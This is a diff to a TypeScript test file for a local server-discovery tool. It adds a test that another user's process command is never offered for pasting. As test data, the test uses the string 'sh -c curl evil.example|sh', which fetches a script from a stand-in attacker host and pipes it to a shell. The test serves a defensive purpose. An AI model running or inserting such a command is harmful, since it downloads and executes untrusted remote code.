@@ -3,7 +3,7 @@ import { groupServices } from "../../src/discovery/group.ts";
 import type { ObservedProcess, Scan } from "../../src/discovery/observation.ts";
 import { unusableServers } from "../../src/discovery/unusable.ts";
 import type { Supervised } from "../../src/routes/supervised.ts";
-import type { Unusable } from "../../src/routes/unusable.ts";
+import { namingCommand, type Unusable } from "../../src/routes/unusable.ts";
 
 type Seen = Partial<ObservedProcess> & { pid: number; ports?: readonly number[] };
 
@@ -130,6 +130,15 @@ test("an older server that has lost its name is listed with the reason, and is n
     { pid: 5, name: "shop", ports: [2000] },
   );
   expect(found(scan)).toEqual([]);
+});
+
+test("of another user's server no command is to be pasted, as that user has written it", () => {
+  const command = "sh -c curl evil.example|sh";
+  const [named] = found(scanOf({ pid: 4, ports: [1000], uid: 5, command }));
+  expect(named).toMatchObject({ pid: 4, command, typed: undefined });
+  expect(namingCommand(named!)).toBe("NAME=api <command>");
+  const [bad] = found(scanOf({ pid: 4, ports: [1000], uid: 5, command, name: "My Api" }));
+  expect(bad).toMatchObject({ fault: { kind: "bad name" }, typed: undefined });
 });
 
 test("a control character of another program reaches neither the command nor the folder", () => {
